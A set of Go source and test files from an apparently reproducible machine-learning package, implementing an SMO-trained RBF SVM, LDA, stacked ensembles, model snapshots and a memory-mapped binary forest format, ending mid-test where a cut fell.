	// Gamma is the RBF kernel width: K(a,b) = exp(-γ‖a-b‖²).
	Gamma float64
	// Tol is the KKT violation tolerance (default 1e-3).
	Tol float64
	// MaxPasses is the number of full passes without any alpha change
	// before SMO stops (default 3).
	MaxPasses int
	// Seed drives the random second-alpha choice.
	Seed int64

	alpha   []float64
	b       float64
	vectors [][]float64 // support vectors (rows with alpha > 0)
	coef    []float64   // alpha_i * y_i for support vectors
	fitted  bool
}

// NewSVM returns an SVM with the paper's hyperparameters.
func NewSVM(seed int64) *SVM {
	return &SVM{C: 150, Gamma: 0.03, Tol: 1e-3, MaxPasses: 3, Seed: seed}
}

// Name implements Classifier.
func (s *SVM) Name() string { return "SVM" }

// Fit trains the classifier with simplified SMO.
func (s *SVM) Fit(X [][]float64, y []int) error {
	if _, err := validate(X, y); err != nil {
		return err
	}
	if s.Tol == 0 {
		s.Tol = 1e-3
	}
	if s.MaxPasses == 0 {
		s.MaxPasses = 3
	}
	n := len(X)
	ys := make([]float64, n) // labels in {-1, +1}
	for i, v := range y {
		if v == Positive {
			ys[i] = 1
		} else {
			ys[i] = -1
		}
	}

	// Precompute the kernel matrix; at the paper's dataset size (≈3.8k
	// training rows per fold) this fits comfortably in memory and makes
	// SMO iterations cheap.
	k := newKernelCache(X, s.Gamma)

	alpha := make([]float64, n)
	b := 0.0
	// f caches the decision value f(x_i) for every training row and is
	// updated incrementally after each alpha step, keeping SMO iterations
	// O(n) instead of O(n²).
	f := make([]float64, n) // all alphas start at 0 ⇒ f = b = 0

	rng := rand.New(rand.NewSource(s.Seed))
	passes := 0
	maxIter := 200 * n
	iter := 0
	for passes < s.MaxPasses && iter < maxIter {
		changed := 0
		for i := 0; i < n; i++ {
			iter++
			ei := f[i] - ys[i]
			if !(ys[i]*ei < -s.Tol && alpha[i] < s.C || ys[i]*ei > s.Tol && alpha[i] > 0) {
				continue
			}
			j := rng.Intn(n - 1)
			if j >= i {
				j++
			}
			ej := f[j] - ys[j]
			ai, aj := alpha[i], alpha[j]
			var lo, hi float64
			if ys[i] != ys[j] {
				lo = math.Max(0, aj-ai)
				hi = math.Min(s.C, s.C+aj-ai)
			} else {
				lo = math.Max(0, ai+aj-s.C)
				hi = math.Min(s.C, ai+aj)
			}
			if lo == hi {
				continue
			}
			kii, kjj, kij := k.at(i, i), k.at(j, j), k.at(i, j)
			eta := 2*kij - kii - kjj
			if eta >= 0 {
				continue
			}
			ajNew := aj - ys[j]*(ei-ej)/eta
			if ajNew > hi {
				ajNew = hi
			} else if ajNew < lo {
				ajNew = lo
			}
			if math.Abs(ajNew-aj) < 1e-5 {
				continue
			}
			aiNew := ai + ys[i]*ys[j]*(aj-ajNew)
			b1 := b - ei - ys[i]*(aiNew-ai)*kii - ys[j]*(ajNew-aj)*kij
			b2 := b - ej - ys[i]*(aiNew-ai)*kij - ys[j]*(ajNew-aj)*kjj
			bNew := (b1 + b2) / 2
			if aiNew > 0 && aiNew < s.C {
				bNew = b1
			} else if ajNew > 0 && ajNew < s.C {
				bNew = b2
			}
			// Incremental decision-value update for all rows.
			di := ys[i] * (aiNew - ai)
			dj := ys[j] * (ajNew - aj)
			db := bNew - b
			ki, kj := k.row(i), k.row(j)
			for t := 0; t < n; t++ {
				f[t] += di*ki[t] + dj*kj[t] + db
			}
			alpha[i], alpha[j] = aiNew, ajNew
			b = bNew
			changed++
		}
		if changed == 0 {
			passes++
		} else {
			passes = 0
		}
	}

	// Keep only support vectors.
	s.vectors = s.vectors[:0]
	s.coef = s.coef[:0]
	for i := 0; i < n; i++ {
		if alpha[i] > 1e-8 {
			s.vectors = append(s.vectors, X[i])
			s.coef = append(s.coef, alpha[i]*ys[i])
		}
	}
	s.alpha, s.b = alpha, b
	s.fitted = true
	return nil
}

// Score returns the decision-function value f(x); positive means the
// positive class.
func (s *SVM) Score(x []float64) float64 {
	if !s.fitted {
		return 0
	}
	sum := s.b
	for i, sv := range s.vectors {
		sum += s.coef[i] * rbf(sv, x, s.Gamma)
	}
	return sum
}

// Predict implements Classifier. An unfitted model predicts Negative.
func (s *SVM) Predict(x []float64) int {
	if !s.fitted {
		return Negative
	}
	if s.Score(x) >= 0 {
		return Positive
	}
	return Negative
}

// rbf computes exp(-γ‖a-b‖²).
func rbf(a, b []float64, gamma float64) float64 {
	d := 0.0
	for i := range a {
		t := a[i] - b[i]
		d += t * t
	}
	return math.Exp(-gamma * d)
}

// kernelCache precomputes the full RBF Gram matrix.
type kernelCache struct {
	n    int
	data []float64
}

func newKernelCache(X [][]float64, gamma float64) *kernelCache {
	n := len(X)
	k := &kernelCache{n: n, data: make([]float64, n*n)}
	// ‖a-b‖² = ‖a‖² + ‖b‖² - 2a·b
	sq := make([]float64, n)
	for i, row := range X {
		s := 0.0
		for _, v := range row {
			s += v * v
		}
		sq[i] = s
	}
	for i := 0; i < n; i++ {
		k.data[i*n+i] = 1
		for j := i + 1; j < n; j++ {
			dot := 0.0
			xi, xj := X[i], X[j]
			for d := range xi {
				dot += xi[d] * xj[d]
			}
			v := math.Exp(-gamma * (sq[i] + sq[j] - 2*dot))
			k.data[i*n+j] = v
			k.data[j*n+i] = v
		}
	}
	return k
}

func (k *kernelCache) at(i, j int) float64 { return k.data[i*k.n+j] }
func (k *kernelCache) row(i int) []float64 { return k.data[i*k.n : (i+1)*k.n] }
