package ml

import (
	"errors"
	"math"
	"math/rand"
	"reflect"
	"testing"
)

// stackDataset builds a two-channel synthetic problem where each channel
// is individually noisy but the channels disagree on different rows, so
// stacking has something to gain. Channel A = 3 dims, channel B = 2 dims.
func stackDataset(n int, seed int64) (X [][]float64, y []int) {
	rng := rand.New(rand.NewSource(seed))
	for i := 0; i < n; i++ {
		label := i % 2
		row := make([]float64, 5)
		// Channel A separates along dim 0 with noise.
		row[0] = float64(label) + rng.NormFloat64()*0.6
		row[1] = rng.NormFloat64()
		row[2] = rng.NormFloat64() * 0.5
		// Channel B separates along dim 3 with different noise.
		row[3] = float64(label)*1.5 + rng.NormFloat64()*0.8
		row[4] = rng.NormFloat64()
		X = append(X, row)
		y = append(y, label)
	}
	return X, y
}

func fitStack(t *testing.T, seed int64) (*Stacked, [][]float64, []int) {
	t.Helper()
	X, y := stackDataset(160, 11)
	s := NewStacked([]string{"a", "b"}, []int{3, 2}, seed)
	s.Trees = 15
	if err := s.Fit(X, y); err != nil {
		t.Fatalf("Fit: %v", err)
	}
	return s, X, y
}

func TestLogitLearnsLinearRule(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	var X [][]float64
	var y []int
	for i := 0; i < 200; i++ {
		label := i % 2
		X = append(X, []float64{float64(label) + rng.NormFloat64()*0.3, rng.NormFloat64()})
		y = append(y, label)
	}
	l := NewLogit()
	if err := l.Fit(X, y); err != nil {
		t.Fatalf("Fit: %v", err)
	}
	correct := 0
	for i, x := range X {
		if l.Predict(x) == y[i] {
			correct++
		}
	}
	if acc := float64(correct) / float64(len(X)); acc < 0.9 {
		t.Errorf("training accuracy %.3f < 0.9", acc)
	}
	w, _ := l.Weights()
	if w[0] <= 0 {
		t.Errorf("separating weight %v not positive", w[0])
	}
	for _, x := range X {
		if s := l.Score(x); s < 0 || s > 1 || math.IsNaN(s) {
			t.Fatalf("score %v outside [0,1]", s)
		}
	}
}

func TestLogitUnfitted(t *testing.T) {
	l := NewLogit()
	if l.Predict([]float64{1}) != Negative || l.Score([]float64{1}) != 0 {
		t.Error("unfitted logit must refuse positively")
	}
}

func TestStackedFitPredict(t *testing.T) {
	s, X, y := fitStack(t, 42)
	correct := 0
	for i, x := range X {
		if s.Predict(x) == y[i] {
			correct++
		}
	}
	if acc := float64(correct) / float64(len(X)); acc < 0.8 {
		t.Errorf("training accuracy %.3f < 0.8", acc)
	}
	for _, x := range X {
		if sc := s.Score(x); sc < 0 || sc > 1 || math.IsNaN(sc) {
			t.Fatalf("score %v outside [0,1]", sc)
		}
	}
	if got := len(s.Bases()); got != 2 {
		t.Errorf("bases = %d, want 2", got)
	}
	if w, _ := s.CombinerWeights(); len(w) != 2 {
		t.Errorf("combiner weights = %v, want 2 dims", w)
	}
}

func TestStackedDeterministicAcrossWorkers(t *testing.T) {
	X, y := stackDataset(120, 5)
	score := func(workers int) []float64 {
		s := NewStacked([]string{"a", "b"}, []int{3, 2}, 7)
		s.Trees = 10
		s.Workers = workers
		if err := s.Fit(X, y); err != nil {
			t.Fatalf("Fit workers=%d: %v", workers, err)
		}
		out := make([]float64, len(X))
		s.ScoreBatch(X, out)
		return out
	}
	one := score(1)
	many := score(4)
	if !reflect.DeepEqual(one, many) {
		t.Error("stacked scores differ across worker counts")
	}
}

func TestStackedBatchMatchesSingle(t *testing.T) {
	s, X, _ := fitStack(t, 9)
	batch := make([]float64, len(X))
	s.ScoreBatch(X, batch)
	for i, x := range X {
		if got := s.Score(x); got != batch[i] {
			t.Fatalf("row %d: batch %v != single %v", i, batch[i], got)
		}
	}
	labels, scores := PredictBatch(s, X)
	for i, x := range X {
		if labels[i] != s.Predict(x) || scores[i] != s.Score(x) {
			t.Fatalf("PredictBatch row %d diverges", i)
		}
	}
}

func TestStackedCompileBitIdentical(t *testing.T) {
	s, X, _ := fitStack(t, 21)
	before := make([]float64, len(X))
	s.ScoreBatch(X, before)
	if err := s.Compile(); err != nil {
		t.Fatalf("Compile: %v", err)
	}
	after := make([]float64, len(X))
	s.ScoreBatch(X, after)
	if !reflect.DeepEqual(before, after) {
		t.Error("compiled stack scores diverge from uncompiled")
	}
}

func TestStackedSnapshotRoundTrip(t *testing.T) {
	s, X, _ := fitStack(t, 33)
	blob, err := Save(s)
	if err != nil {
		t.Fatalf("Save: %v", err)
	}
	restored, err := Load(blob)
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	rs, ok := restored.(*Stacked)
	if !ok {
		t.Fatalf("restored type %T", restored)
	}
	if !reflect.DeepEqual(rs.ChannelNames, s.ChannelNames) || !reflect.DeepEqual(rs.Dims, s.Dims) {
		t.Error("channel layout not preserved")
	}
	for _, x := range X {
		if rs.Score(x) != s.Score(x) {
			t.Fatal("restored stack scores diverge")
		}
		if rs.Predict(x) != s.Predict(x) {
			t.Fatal("restored stack labels diverge")
		}
	}
}

func TestLogitSnapshotRoundTrip(t *testing.T) {
	X := [][]float64{{0, 1}, {1, 0}, {0.9, 0.1}, {0.1, 0.8}}
	y := []int{0, 1, 1, 0}
	l := NewLogit()
	if err := l.Fit(X, y); err != nil {
		t.Fatalf("Fit: %v", err)
	}
	blob, err := Save(l)
	if err != nil {
		t.Fatalf("Save: %v", err)
	}
	restored, err := Load(blob)
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	for _, x := range X {
		if restored.Score(x) != l.Score(x) {
			t.Fatal("restored logit diverges")
		}
	}
}

func TestStackedRejectsBadLayout(t *testing.T) {
	X, y := stackDataset(40, 1)
	s := NewStacked([]string{"a", "b"}, []int{3, 3}, 1) // widths sum to 6, rows are 5
	if err := s.Fit(X, y); !errors.Is(err, ErrBadTrainingData) {
		t.Errorf("layout mismatch error = %v, want ErrBadTrainingData", err)
	}
	s = NewStacked(nil, nil, 1)
	if err := s.Fit(X, y); !errors.Is(err, ErrBadTrainingData) {
		t.Errorf("empty layout error = %v, want ErrBadTrainingData", err)
	}
	var unfitted Stacked
	if unfitted.Predict([]float64{1, 2, 3, 4, 5}) != Negative {
		t.Error("unfitted stack must predict negative")
	}
	if unfitted.Compile() == nil {
		t.Error("unfitted Compile must error")
	}
}

func TestStratifiedFolds(t *testing.T) {
	y := make([]int, 100)
	for i := range y {
		if i%3 == 0 {
			y[i] = 1
		}
	}
	folds := stratifiedFolds(y, 5, 42)
	if len(folds) != 5 {
		t.Fatalf("%d folds, want 5", len(folds))
	}
	seen := map[int]bool{}
	for _, fold := range folds {
		pos := 0
		for _, i := range fold {
			if seen[i] {
				t.Fatalf("index %d in two folds", i)
			}
			seen[i] = true
			if y[i] == 1 {
				pos++
			}
		}
		// 34 positives over 5 folds: every fold holds 6-7.
		if pos < 6 || pos > 7 {
			t.Errorf("fold has %d positives, want 6-7", pos)
		}
	}
	if len(seen) != len(y) {
		t.Errorf("folds cover %d of %d indices", len(seen), len(y))
	}
	// Deterministic for a fixed seed.
	if !reflect.DeepEqual(folds, stratifiedFolds(y, 5, 42)) {
		t.Error("folds not deterministic")
	}
	// k clamps to the smaller class.
	tiny := []int{1, 1, 0, 0, 0, 0}
	if got := len(stratifiedFolds(tiny, 5, 1)); got != 2 {
		t.Errorf("clamped folds = %d, want 2", got)
	}
}

func TestStackedChannelScoreBatch(t *testing.T) {
	s, X, _ := fitStack(t, 5)
	cols := s.ChannelScoreBatch(X)
	if len(cols) != len(X) {
		t.Fatalf("rows = %d, want %d", len(cols), len(X))
	}
	out := make([]float64, len(X))
	s.ScoreBatch(X, out)
	for k, row := range cols {
		if len(row) != len(s.Bases()) {
			t.Fatalf("row %d has %d channels", k, len(row))
		}
		// The combiner over the per-channel scores must reproduce the
		// ensemble score exactly — same numbers, same fold.
		if got := s.combiner.Score(row); math.Abs(got-out[k]) > 1e-15 {
			t.Fatalf("row %d: combiner(channel scores) = %g, ScoreBatch = %g", k, got, out[k])
		}
	}
	var unfitted Stacked
	if cols := unfitted.ChannelScoreBatch(X); cols != nil {
		t.Fatalf("unfitted ChannelScoreBatch = %v", cols)
	}
}
