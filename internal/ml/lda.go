package ml

import (
	"math"

	"repro/internal/linalg"
)

// LDA is Fisher's linear discriminant with the Gaussian equal-covariance
// decision rule: w = Σ⁻¹(μ₁ − μ₀), threshold from class priors.
type LDA struct {
	// Ridge is added to the pooled covariance diagonal for numerical
	// stability (default 1e-6 relative to the mean variance).
	Ridge float64

	w      []float64
	bias   float64
	fitted bool
}

// NewLDA returns an LDA classifier.
func NewLDA() *LDA { return &LDA{} }

// Name implements Classifier.
func (l *LDA) Name() string { return "LDA" }

// Fit estimates class means and the pooled covariance.
func (l *LDA) Fit(X [][]float64, y []int) error {
	if _, err := validate(X, y); err != nil {
		return err
	}
	var pos, neg []int
	for i, label := range y {
		if label == Positive {
			pos = append(pos, i)
		} else {
			neg = append(neg, i)
		}
	}
	mu1 := linalg.Mean(X, pos)
	mu0 := linalg.Mean(X, neg)
	cov1 := linalg.Covariance(X, pos, mu1)
	cov0 := linalg.Covariance(X, neg, mu0)
	d := len(mu1)
	n := float64(len(X))
	pooled := linalg.New(d, d)
	w1 := float64(len(pos)) / n
	w0 := float64(len(neg)) / n
	for i := range pooled.Data {
		pooled.Data[i] = w1*cov1.Data[i] + w0*cov0.Data[i]
	}

	// Relative ridge for stability on (near-)degenerate features.
	ridge := l.Ridge
	if ridge == 0 {
		trace := 0.0
		for i := 0; i < d; i++ {
			trace += pooled.At(i, i)
		}
		ridge = 1e-6 * (trace/float64(d) + 1)
	}
	pooled.AddDiagonal(ridge)

	diff := make([]float64, d)
	for j := range diff {
		diff[j] = mu1[j] - mu0[j]
	}
	w, err := linalg.Solve(pooled, diff)
	if err != nil {
		return err
	}
	l.w = w
	// Decision threshold: w·x ≥ w·(μ1+μ0)/2 − ln(π1/π0) (equal-covariance
	// Gaussian posterior).
	mid := make([]float64, d)
	for j := range mid {
		mid[j] = (mu1[j] + mu0[j]) / 2
	}
	l.bias = -linalg.Dot(w, mid) + math.Log(w1/w0)
	l.fitted = true
	return nil
}

// Score returns the signed discriminant value.
func (l *LDA) Score(x []float64) float64 {
	if !l.fitted {
		return 0
	}
	return linalg.Dot(l.w, x) + l.bias
}

// Predict implements Classifier. An unfitted model predicts Negative.
func (l *LDA) Predict(x []float64) int {
	if !l.fitted {
		return Negative
	}
	if l.Score(x) >= 0 {
		return Positive
	}
	return Negative
}
