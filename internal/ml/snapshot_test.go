package ml

import (
	"testing"
)

func TestSaveLoadRoundTrip(t *testing.T) {
	X, y := gaussianBlobs(150, 3, 0.3, 77)
	probes, _ := gaussianBlobs(30, 3, 0.3, 78)
	for _, c := range allClassifiers(5) {
		if err := c.Fit(X, y); err != nil {
			t.Fatalf("%s: %v", c.Name(), err)
		}
		blob, err := Save(c)
		if err != nil {
			t.Fatalf("%s: Save: %v", c.Name(), err)
		}
		restored, err := Load(blob)
		if err != nil {
			t.Fatalf("%s: Load: %v", c.Name(), err)
		}
		for _, p := range probes {
			if a, b := c.Score(p), restored.Score(p); a != b {
				t.Errorf("%s: score %v != restored %v", c.Name(), a, b)
			}
			if a, b := c.Predict(p), restored.Predict(p); a != b {
				t.Errorf("%s: predict %v != restored %v", c.Name(), a, b)
			}
		}
	}
}

func TestSaveLoadTree(t *testing.T) {
	X, y := gaussianBlobs(100, 2, 0.5, 3)
	tree := &DecisionTree{MaxDepth: 4}
	if err := tree.Fit(X, y); err != nil {
		t.Fatal(err)
	}
	blob, err := Save(tree)
	if err != nil {
		t.Fatal(err)
	}
	restored, err := Load(blob)
	if err != nil {
		t.Fatal(err)
	}
	for _, x := range X {
		if tree.Score(x) != restored.Score(x) {
			t.Fatal("tree scores differ after round trip")
		}
	}
}

func TestLoadRejectsGarbage(t *testing.T) {
	if _, err := Load([]byte("not json")); err == nil {
		t.Error("garbage accepted")
	}
	if _, err := Load([]byte(`{"kind":"alien","body":{}}`)); err == nil {
		t.Error("unknown kind accepted")
	}
	if _, err := Load([]byte(`{"kind":"bnb","body":{"logPrior":[1]}}`)); err == nil {
		t.Error("malformed bnb accepted")
	}
}

func TestSaveRejectsUnknownType(t *testing.T) {
	if _, err := Save(&stubClassifier{}); err == nil {
		t.Error("unknown classifier type accepted")
	}
}

type stubClassifier struct{}

func (s *stubClassifier) Name() string                     { return "stub" }
func (s *stubClassifier) Fit(X [][]float64, y []int) error { return nil }
func (s *stubClassifier) Predict(x []float64) int          { return 0 }
func (s *stubClassifier) Score(x []float64) float64        { return 0 }
