//go:build unix

package ml

import (
	"os"
	"syscall"
)

// mapFile mmaps path read-only and shared: N daemon processes mapping the
// same model file share one physical copy through the page cache, so
// per-worker model memory stays flat in worker count.
func mapFile(path string) (*Mapping, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	st, err := f.Stat()
	if err != nil {
		return nil, err
	}
	size := st.Size()
	if size == 0 {
		return NewMapping(nil, nil), nil
	}
	if size != int64(int(size)) {
		return nil, syscall.EFBIG
	}
	data, err := syscall.Mmap(int(f.Fd()), 0, int(size), syscall.PROT_READ, syscall.MAP_SHARED)
	if err != nil {
		return nil, err
	}
	return NewMapping(data, syscall.Munmap), nil
}
