// Fixed-layout binary snapshot of a CompiledForest.
//
// The section is designed to be mmap'd and used in place: a 64-byte header
// (magic, version, endianness tag, counts, CRC) followed by the forest's
// arrays, each at an 8-aligned offset, written in native byte order. A
// reader on a same-endianness machine with an aligned base pointer aliases
// the arrays zero-copy — N workers (and, through the page cache, N
// processes) share one read-only model image. A reader that cannot alias
// (foreign endianness is rejected with a typed error so callers fall back
// to the JSON model; a misaligned base is copied) still gets a working
// forest.
package ml

import (
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"unsafe"
)

// Typed snapshot errors. Version and endianness mismatches are "skew": the
// snapshot is well-formed but not usable by this reader, and callers
// holding a JSON model alongside should fall back to it. Checksum and
// malformed errors mean the bytes are damaged and must not be trusted.
var (
	ErrSnapshotChecksum  = errors.New("ml: compiled snapshot checksum mismatch")
	ErrSnapshotVersion   = errors.New("ml: compiled snapshot version unsupported")
	ErrSnapshotEndian    = errors.New("ml: compiled snapshot endianness mismatch")
	ErrSnapshotMalformed = errors.New("ml: compiled snapshot malformed")
)

const (
	compiledMagic   = "VBCFSEC1"
	compiledVersion = 1

	// compiledEndianTag is written in native byte order; a reader seeing
	// its bytes reversed is on a foreign-endianness machine.
	compiledEndianTag = 0x01020304

	compiledHeaderSize = 64

	flagQuantized = 1 << 0

	cfNodeSize  = 16
	cfQNodeSize = 12
	ctreeSize   = 16
)

// The snapshot aliases these structs byte-for-byte, so their layout is
// part of the wire format: a toolchain that sized or packed them
// differently would corrupt models, and fails to compile here instead.
var (
	_ = [1]struct{}{}[unsafe.Sizeof(cfNode{})-cfNodeSize]
	_ = [1]struct{}{}[unsafe.Sizeof(cfQNode{})-cfQNodeSize]
	_ = [1]struct{}{}[unsafe.Sizeof(ctree{})-ctreeSize]
	_ = [1]struct{}{}[unsafe.Offsetof(cfNode{}.kids)-8]
	_ = [1]struct{}{}[unsafe.Offsetof(cfNode{}.feat)-12]
	_ = [1]struct{}{}[unsafe.Offsetof(cfQNode{}.kids)-4]
	_ = [1]struct{}{}[unsafe.Offsetof(cfQNode{}.feat)-8]
	_ = [1]struct{}{}[unsafe.Offsetof(ctree{}.leaf)-4]
	_ = [1]struct{}{}[unsafe.Offsetof(ctree{}.depth)-8]
	_ = [1]struct{}{}[unsafe.Offsetof(ctree{}.kind)-10]
)

var castagnoli = crc32.MakeTable(crc32.Castagnoli)

// bytesOf views a slice's backing array as bytes (native byte order).
func bytesOf[T any](s []T) []byte {
	if len(s) == 0 {
		return nil
	}
	return unsafe.Slice((*byte)(unsafe.Pointer(&s[0])), len(s)*int(unsafe.Sizeof(s[0])))
}

func align8(n int) int { return (n + 7) &^ 7 }

// sectionLayout computes the payload offsets for the given counts. All
// arithmetic is done in int on the reader only after overflow checks.
type sectionLayout struct {
	trees, nodes, prob, hThr, hFeat, hProb int // offsets into payload
	total                                  int
}

func computeLayout(nTrees, nNodes, nHeap, nHeapProb int, quantized bool) sectionLayout {
	var l sectionLayout
	off := 0
	l.trees = off
	off = align8(off + nTrees*ctreeSize)
	l.nodes = off
	if quantized {
		off = align8(off + nNodes*cfQNodeSize)
	} else {
		off = align8(off + nNodes*cfNodeSize)
	}
	l.prob = off
	off = align8(off + nNodes*8)
	l.hThr = off
	if quantized {
		off = align8(off + nHeap*4)
	} else {
		off = align8(off + nHeap*8)
	}
	l.hFeat = off
	off = align8(off + nHeap*2)
	l.hProb = off
	off = align8(off + nHeapProb*8)
	l.total = off
	return l
}

// EncodeCompiled serializes c into the fixed-layout snapshot section.
func EncodeCompiled(c *CompiledForest) ([]byte, error) {
	if c == nil || len(c.trees) == 0 {
		return nil, ErrNotFitted
	}
	nNodes := len(c.nodes)
	nHeap := len(c.hThr)
	if c.quantized {
		nNodes = len(c.qnodes)
		nHeap = len(c.hQThr)
	}
	l := computeLayout(len(c.trees), nNodes, nHeap, len(c.hProb), c.quantized)
	buf := make([]byte, compiledHeaderSize+l.total)
	payload := buf[compiledHeaderSize:]
	copy(payload[l.trees:], bytesOf(c.trees))
	if c.quantized {
		copy(payload[l.nodes:], bytesOf(c.qnodes))
		copy(payload[l.hThr:], bytesOf(c.hQThr))
	} else {
		copy(payload[l.nodes:], bytesOf(c.nodes))
		copy(payload[l.hThr:], bytesOf(c.hThr))
	}
	copy(payload[l.prob:], bytesOf(c.prob))
	copy(payload[l.hFeat:], bytesOf(c.hFeat))
	copy(payload[l.hProb:], bytesOf(c.hProb))

	ne := binary.NativeEndian
	copy(buf[0:8], compiledMagic)
	ne.PutUint32(buf[8:], compiledVersion)
	ne.PutUint32(buf[12:], compiledEndianTag)
	flags := uint32(0)
	if c.quantized {
		flags |= flagQuantized
	}
	ne.PutUint32(buf[16:], flags)
	ne.PutUint32(buf[20:], uint32(len(c.trees)))
	ne.PutUint32(buf[24:], uint32(nNodes))
	ne.PutUint32(buf[28:], uint32(nHeap))
	ne.PutUint32(buf[32:], uint32(len(c.hProb)))
	ne.PutUint32(buf[36:], uint32(c.dim))
	// buf[40:48] reserved
	ne.PutUint64(buf[48:], uint64(l.total))
	ne.PutUint32(buf[56:], crc32.Checksum(payload, castagnoli))
	// buf[60:64] reserved
	return buf, nil
}

// aligned reports whether data's element at off can be aliased as a value
// requiring the given alignment.
func aligned(data []byte, off, alignment int) bool {
	if off >= len(data) {
		return true // zero-length array, never dereferenced
	}
	return uintptr(unsafe.Pointer(&data[off]))%uintptr(alignment) == 0
}

// aliasSlice returns data[off:] viewed as []T of length n, assuming
// alignment was verified.
func aliasSlice[T any](data []byte, off, n int) []T {
	if n == 0 {
		return nil
	}
	return unsafe.Slice((*T)(unsafe.Pointer(&data[off])), n)
}

// copySlice decodes data[off:] into a fresh []T of length n.
func copySlice[T any](data []byte, off, n int) []T {
	if n == 0 {
		return nil
	}
	out := make([]T, n)
	copy(bytesOf(out), data[off:])
	return out
}

// DecodeCompiled parses a fixed-layout snapshot section. When m is non-nil
// and the section is properly aligned, the returned forest's arrays alias
// m's bytes directly (zero-copy: the mapping must stay referenced for the
// forest's lifetime, and Mapping() returns it so callers can pin it);
// otherwise the arrays are copied and the forest owns its memory.
//
// Errors: ErrSnapshotVersion / ErrSnapshotEndian mean a well-formed
// section this reader cannot use (fall back to the JSON model);
// ErrSnapshotChecksum / ErrSnapshotMalformed mean damage.
func DecodeCompiled(data []byte, m *Mapping) (*CompiledForest, error) {
	if len(data) < compiledHeaderSize || string(data[0:8]) != compiledMagic {
		return nil, fmt.Errorf("%w: missing section header", ErrSnapshotMalformed)
	}
	ne := binary.NativeEndian
	if tag := ne.Uint32(data[12:]); tag != compiledEndianTag {
		return nil, ErrSnapshotEndian
	}
	if v := ne.Uint32(data[8:]); v != compiledVersion {
		return nil, fmt.Errorf("%w: version %d", ErrSnapshotVersion, v)
	}
	flags := ne.Uint32(data[16:])
	nTrees := int(ne.Uint32(data[20:]))
	nNodes := int(ne.Uint32(data[24:]))
	nHeap := int(ne.Uint32(data[28:]))
	nHeapProb := int(ne.Uint32(data[32:]))
	dim := int(ne.Uint32(data[36:]))
	payloadLen := ne.Uint64(data[48:])
	const maxCount = 1 << 28 // caps offset arithmetic far below int overflow
	if nTrees > maxCount || nNodes > maxCount || nHeap > maxCount || nHeapProb > maxCount {
		return nil, fmt.Errorf("%w: implausible counts", ErrSnapshotMalformed)
	}
	quantized := flags&flagQuantized != 0
	l := computeLayout(nTrees, nNodes, nHeap, nHeapProb, quantized)
	if payloadLen != uint64(l.total) || uint64(len(data)-compiledHeaderSize) < payloadLen {
		return nil, fmt.Errorf("%w: truncated section", ErrSnapshotMalformed)
	}
	payload := data[compiledHeaderSize : compiledHeaderSize+l.total]
	if crc32.Checksum(payload, castagnoli) != ne.Uint32(data[56:]) {
		return nil, ErrSnapshotChecksum
	}

	c := &CompiledForest{quantized: quantized, dim: dim}
	zeroCopy := m != nil &&
		aligned(payload, l.trees, 8) && aligned(payload, l.nodes, 8) &&
		aligned(payload, l.prob, 8) && aligned(payload, l.hThr, 8) &&
		aligned(payload, l.hFeat, 2) && aligned(payload, l.hProb, 8)
	if zeroCopy {
		c.trees = aliasSlice[ctree](payload, l.trees, nTrees)
		if quantized {
			c.qnodes = aliasSlice[cfQNode](payload, l.nodes, nNodes)
			c.hQThr = aliasSlice[float32](payload, l.hThr, nHeap)
		} else {
			c.nodes = aliasSlice[cfNode](payload, l.nodes, nNodes)
			c.hThr = aliasSlice[float64](payload, l.hThr, nHeap)
		}
		c.prob = aliasSlice[float64](payload, l.prob, nNodes)
		c.hFeat = aliasSlice[uint16](payload, l.hFeat, nHeap)
		c.hProb = aliasSlice[float64](payload, l.hProb, nHeapProb)
		c.mapping = m
	} else {
		c.trees = copySlice[ctree](payload, l.trees, nTrees)
		if quantized {
			c.qnodes = copySlice[cfQNode](payload, l.nodes, nNodes)
			c.hQThr = copySlice[float32](payload, l.hThr, nHeap)
		} else {
			c.nodes = copySlice[cfNode](payload, l.nodes, nNodes)
			c.hThr = copySlice[float64](payload, l.hThr, nHeap)
		}
		c.prob = copySlice[float64](payload, l.prob, nNodes)
		c.hFeat = copySlice[uint16](payload, l.hFeat, nHeap)
		c.hProb = copySlice[float64](payload, l.hProb, nHeapProb)
	}
	if err := c.validate(); err != nil {
		return nil, err
	}
	c.buildBlocks()
	return c, nil
}
