package ml

import (
	"math"
	"math/rand"
	"testing"
)

// gaussianBlobs builds a linearly separable 2-class dataset with the given
// margin; margin < 0 produces overlap.
func gaussianBlobs(n int, dim int, margin float64, seed int64) ([][]float64, []int) {
	rng := rand.New(rand.NewSource(seed))
	X := make([][]float64, n)
	y := make([]int, n)
	for i := range X {
		row := make([]float64, dim)
		c := i % 2
		center := -1 - margin/2
		if c == 1 {
			center = 1 + margin/2
		}
		for j := range row {
			row[j] = center + rng.NormFloat64()*0.5
		}
		X[i] = row
		y[i] = c
	}
	return X, y
}

// xorData is not linearly separable: tests nonlinear capability.
func xorData(n int, seed int64) ([][]float64, []int) {
	rng := rand.New(rand.NewSource(seed))
	X := make([][]float64, n)
	y := make([]int, n)
	for i := range X {
		a := float64(rng.Intn(2))*2 - 1
		b := float64(rng.Intn(2))*2 - 1
		X[i] = []float64{a + rng.NormFloat64()*0.2, b + rng.NormFloat64()*0.2}
		if a*b > 0 {
			y[i] = 1
		}
	}
	return X, y
}

func accuracy(c Classifier, X [][]float64, y []int) float64 {
	correct := 0
	for i, x := range X {
		if c.Predict(x) == y[i] {
			correct++
		}
	}
	return float64(correct) / float64(len(X))
}

func allClassifiers(seed int64) []Classifier {
	return []Classifier{
		NewScaled(NewSVM(seed)),
		NewRandomForest(seed),
		NewScaled(NewMLP(seed)),
		NewScaled(NewLDA()),
		NewBernoulliNB(),
	}
}

func TestAllClassifiersOnSeparableData(t *testing.T) {
	Xtr, ytr := gaussianBlobs(300, 4, 1, 1)
	Xte, yte := gaussianBlobs(200, 4, 1, 2)
	for _, c := range allClassifiers(7) {
		if err := c.Fit(Xtr, ytr); err != nil {
			t.Fatalf("%s: Fit: %v", c.Name(), err)
		}
		if acc := accuracy(c, Xte, yte); acc < 0.9 {
			t.Errorf("%s: accuracy %.3f on separable data, want >= 0.9", c.Name(), acc)
		}
	}
}

func TestNonlinearClassifiersOnXOR(t *testing.T) {
	Xtr, ytr := xorData(400, 3)
	Xte, yte := xorData(200, 4)
	for _, c := range []Classifier{
		NewScaled(NewSVM(7)),
